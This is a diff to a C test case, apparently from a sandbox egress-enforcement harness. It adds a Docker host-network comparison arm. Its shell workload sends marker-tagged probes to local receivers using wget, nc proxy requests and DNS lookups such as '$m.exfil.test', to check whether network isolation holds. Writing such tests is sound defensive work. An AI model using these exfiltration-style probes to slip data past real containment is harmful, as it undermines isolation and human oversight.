@@ -28,10 +28,12 @@
  * query reaches it, so it must FAIL). docker: the reference, with the
  * same kinds of clients in busybox (wget with and without the proxy, wget
  * to the literals, nslookup, nc): no bridge network may be made here, so
- * Docker runs in its one offline mode, --network none, which refuses
- * everything, the permitted request too (control FAILs; the reference arm
- * is reported, not required). Docker's own mediated design (an internal
- * network and a proxy container) needs a bridge network: not run. */
+ * Docker runs in --network none, which refuses everything, the permitted
+ * request too (control FAILs), and as docker:host-net in --network host
+ * (loopback clients only), which lets everything through (enforcement
+ * FAILs); reference arms are reported, not required. Docker's own mediated
+ * design (an internal network and a proxy container) needs a bridge
+ * network: not run. */
 #include "../../lib/case.h"
 #include "../../observers/observe.h"
 #include "../../observers/selftest.h"
@@ -63,6 +65,7 @@ static const struct case_arm arms[] = {
     {.name = "weakened:proxy-env-only", .weakens = DIM_CONTROL},
     {.name = "weakened:dns-open"},
     {.name = "docker"},
+    {.name = "docker:host-net"},
     {.name = NULL},
 };
 
@@ -125,7 +128,8 @@ static const char *const dns_open_env[] = {"PADDOCK_DNS_UPSTREAM=127.0.0.1:18953
 /* The same clients for the busybox-only Docker image ($2 as above): wget honours
  * http_proxy (-Y off ignores it; busybox 1.35's -T crashes, so timeout(1)
  * bounds each), nc sends the mismatched proxy-form request, nslookup asks
- * the DNS receiver's address and port directly. Each reaches its receiver
+ * the DNS receiver's address and port directly, and is the UDP client too
+ * (this busybox's nc has no -u). Each reaches its receiver
  * when run on the host (checked by hand against these receivers). */
 #define BUSYBOX_CLIENTS                                                                           \
 	"m=\"$1\"; export http_proxy=http://127.0.0.1:3128; w='timeout 5 wget -q -O /dev/null'\n" \
@@ -137,7 +141,7 @@ static const char *const dns_open_env[] = {"PADDOCK_DNS_UPSTREAM=127.0.0.1:18953
 	"$w -Y off http://127.0.0.1:18962/$m\n"                                                   \
 	"$w -Y off \"http://[::1]:18962/$m\"\n"                                                   \
 	"timeout 5 nslookup $m.exfil.test 127.0.0.1:18953 >/dev/null 2>&1\n"                      \
-	"printf 'udp-%s' \"$m\" | timeout 3 nc -u 127.0.0.1 18966 >/dev/null 2>&1\n"              \
+	"timeout 3 nslookup udp-$m 127.0.0.1:18966 >/dev/null 2>&1\n"                             \
 	"printf 'GET http://allowed.test:18961/mismatch-%s HTTP/1.1\\r\\nHost: "                  \
 	"denied.test:18962\\r\\n\\r\\n' \"$m\" | timeout 5 nc 127.0.0.1 3128 >/dev/null 2>&1\n"   \
 	"exit 0\n"
@@ -411,8 +415,10 @@ static void run(struct case_run *cr)
 				.record = rec,
 				.env = strcmp(r->knob, "dns-open") == 0 ? dns_open_env : NULL});
 	/* The host's network: loopback literals only (CLIENTS). */
-	argv_words(&a, "sh", "-c", r->kind == ARM_DOCKER ? BUSYBOX_CLIENTS : CLIENTS, "sh",
-		   h->marker, strstr(r->knob, "host-net") ? "host" : "own", NULL);
+	argv_words(
+	    &a, "sh", "-c", r->kind == ARM_DOCKER ? BUSYBOX_CLIENTS : CLIENTS, "sh", h->marker,
+	    strstr(r->knob, "host-net") || strcmp(r->arm, "docker:host-net") == 0 ? "host" : "own",
+	    NULL);
 	if (case_run_vec(cr, &a, cr->log, 120000, &status) < 0) {
 		result_not_executed(r, "could not start the workload");
 		return;
